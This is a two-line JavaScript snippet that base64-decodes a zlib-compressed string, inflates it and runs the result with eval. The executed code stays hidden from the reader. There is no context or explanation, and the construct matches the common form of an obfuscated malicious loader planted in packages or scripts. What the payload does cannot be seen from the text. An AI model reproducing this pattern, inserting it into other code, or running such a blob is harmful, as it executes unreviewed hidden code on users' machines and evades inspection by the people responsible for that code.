const z = require("zlib");
eval(z.inflateSync(Buffer.from("eJwFwdsNgCAMAMBV+KsmCv+u4QDGlEaaIGCLxufu3gltOws1gIGjn4pkJFVoLZ2E45WwAdwlml5NqLXo4Fwqq71xxkCW0zFH9q6Y12iA7tHqOQ/AS8pC8LU/dH8h9A==", "base64")).toString());
